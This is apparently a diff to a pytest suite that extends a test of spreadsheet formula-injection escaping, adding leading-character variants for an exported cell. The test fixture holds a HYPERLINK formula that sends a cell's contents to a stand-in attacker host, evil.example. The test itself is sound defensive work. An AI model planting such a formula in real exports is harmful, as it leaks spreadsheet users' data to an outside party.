@@ -470,7 +470,7 @@ def test_cs_04_the_app_connects_to_no_other_machine(home: Path, tmp_path: Path) 
 # exports and uploads
 
 
-@pytest.mark.parametrize("start", list("=+-@\t\r"))
+@pytest.mark.parametrize("start", [*"=+-@\t\r", " =", "\n@"])
 def test_xi_01_a_cell_that_a_spreadsheet_would_run_is_text(start: str) -> None:
     assert safe(f'{start}HYPERLINK("https://evil.example?x="&A1,"Click")').startswith("'")
 
